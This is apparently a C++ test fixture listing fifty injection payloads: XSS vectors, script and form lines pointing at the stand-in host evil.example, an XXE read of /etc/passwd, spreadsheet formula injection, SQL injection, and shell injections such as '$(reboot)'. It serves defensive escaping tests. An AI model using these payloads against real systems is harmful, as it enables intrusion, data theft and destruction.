// SPDX-FileCopyrightText: 2026 The truyenthanh authors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// Fifty texts that would do something where a text is taken for code: scripts, markup, templates, formulas, SQL,
// shells.
#pragma once

#include <string>
#include <vector>

namespace truyenthanh {

inline const std::vector<std::string>& payloads() {
    static const std::vector<std::string> all{
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg/onload=alert`1`>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>@import'//evil.example/x.css'</style>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<form action=//evil.example><input name=password>",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "{{constructor.constructor('alert(1)')()}}",
        "{@html '<script>alert(1)</script>'}",
        "${alert(1)}",
        "`;alert(1)//",
        "');alert(1);//",
        "=cmd|'/C calc'!A0",
        "=HYPERLINK(\"//evil.example\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'; DROP TABLE item; --",
        "1' OR '1'='1",
        "$(reboot)",
        "| cat /etc/passwd",
        "\xe2\x80\xae<script>alert(1)</script>"};
    return all;
}

}  // namespace truyenthanh
